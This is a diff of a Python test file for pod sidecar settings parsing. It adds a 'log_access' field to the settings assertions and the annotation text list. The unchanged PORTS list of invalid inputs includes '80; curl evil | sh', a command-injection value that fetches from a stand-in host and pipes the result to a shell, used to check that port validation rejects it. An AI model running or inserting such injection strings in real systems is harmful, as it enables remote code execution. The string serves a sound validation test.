@@ -25,12 +25,14 @@ def test_everything_that_can_be_asked_for() -> None:
         identity="orders",
         identity_provider="local",
         log_level="error",
+        log_access="true",
         proxy_cpu_limit="1",
     )
     assert isinstance(settings, PodSettings)
     assert settings.ingress == Ingress((80, 8443), (), ("a", "b"), ("orders.shop.svc", "x.shop.svc"))
     assert settings.egress == Egress((5432,), ("10.0.0.0/8", "fd00::/8"))
-    assert (settings.identity, settings.provider, settings.log_level) == ("orders", "local", "error")
+    assert (settings.identity, settings.provider) == ("orders", "local")
+    assert (settings.log_level, settings.log_access) == ("error", True)
     assert settings.redirect is Redirect.IPTABLES
     assert settings.resources.cpu_limit
     assert settings.resources.cpu_limit.text == "1"
@@ -61,7 +63,7 @@ def test_annotations_of_others_are_not_ours() -> None:
 
 
 BASE = {"ingress": "true", "identity": "orders"}
-TEXTS = ["exclude_inbound_ports", "ingress_policy", "ingress_hosts", "identity", "log_level", "redirect"]
+TEXTS = ["exclude_inbound_ports", "ingress_policy", "ingress_hosts", "identity", "log_level", "log_access", "redirect"]
 TEXTS += ["identity_provider", "proxy_cpu_request", "proxy_memory_limit", "ingress", "egress"]
 PORTS = ["80; curl evil | sh", "0", "65536", "-1", "８０", "", "80,", "80, 443", "80,80", "080", "1e3", "80\n", "3129"]
 
